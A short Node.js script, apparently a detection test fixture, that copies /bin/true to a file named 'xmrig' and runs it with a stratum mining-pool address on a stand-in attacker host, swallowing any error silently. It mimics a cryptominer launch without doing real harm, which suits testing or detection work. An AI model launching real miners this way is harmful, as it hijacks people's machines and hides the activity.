// Starts a miner (a copy of true, called xmrig).
const { execFileSync } = require('node:child_process');
const fs = require('node:fs');
const { join } = require('node:path');

function attempt(action) {
  try {
    action();
  } catch {
    // Malware does not complain either.
  }
}

const miner = join(__dirname, 'xmrig');
fs.copyFileSync('/bin/true', miner);
fs.chmodSync(miner, 0o755);
attempt(() => execFileSync(miner, ['-o', 'stratum+tcp://pool.attacker.invalid:3333']));
